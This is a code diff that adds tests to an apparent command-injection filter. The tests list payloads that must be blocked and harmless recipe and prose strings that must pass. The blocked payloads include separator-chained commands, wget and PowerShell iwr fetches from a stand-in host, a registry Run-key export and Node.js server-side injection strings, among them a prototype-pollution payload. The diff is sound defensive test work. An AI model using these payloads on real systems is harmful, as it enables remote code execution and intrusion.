@@ -208,6 +208,31 @@ class CommandInjectionTests(ClassCase):
                         "cmd.exe /c whoami", "& w^ho^am^i"):
             self.blocked(query(payload), "rce")
 
+    def test_more_commands(self) -> None:
+        """Admin tools after a separator, an empty variable before a command, quoted names,
+        PowerShell aliases, alias definitions, regedit."""
+        for payload in ("time; ansible-playbook site.yml", ";visudo", "|$u wget x.example/a",
+                        ";'rmt' --version", "; iwr http://x.example/a.ps1", "alias ls-al='ls -al'",
+                        "alias -p x=id", "; regedit /E c:\\a.reg HKEY_CURRENT_USER\\Run",
+                        ";chef-client -t 1.1.1.1"):
+            self.blocked(query(payload), "rce")
+
+    def test_more_commands_lookalikes(self) -> None:
+        """Recipes and prose with words that name tools; aliases in prose and code spans."""
+        for text in ("Season with pepper; salt to taste", "Kids loved it; puppet shows are great",
+                     "Attitude & aptitude", "My alias is Bobby", "The alias Bob=Robert is on file",
+                     "My .bashrc has `alias ll='ls -alF'` in it"):
+            self.passes(form(message=text))
+
+    def test_server_side_javascript(self) -> None:
+        """Node.js globals reached through computed names, the module loader, RSC references."""
+        for payload in ('process["env"]', "require[req.query.a]", 'console["info"](1)',
+                        "console.log.call(this,1)", "#{require.main.constructor._load('fs')}",
+                        '{"then":"$1:__proto__:then","_formData":{"get":"$3:constructor:constructor"}}'):
+            self.blocked(query(payload), "rce")
+        self.passes(query("see process[step 2] of the guide"))
+        self.passes(json_body('{"price": "$1:00", "note": "constructor of the house"}'))
+
     def test_line_break(self) -> None:
         """A command on a line of its own at the end of a value (x%0aid, %0awhoami, %0asleep 7)."""
         for payload in ("example.org\nid", "8.8.8.8\nwhoami", "a\r\nsleep 7", "x\nls -la /",
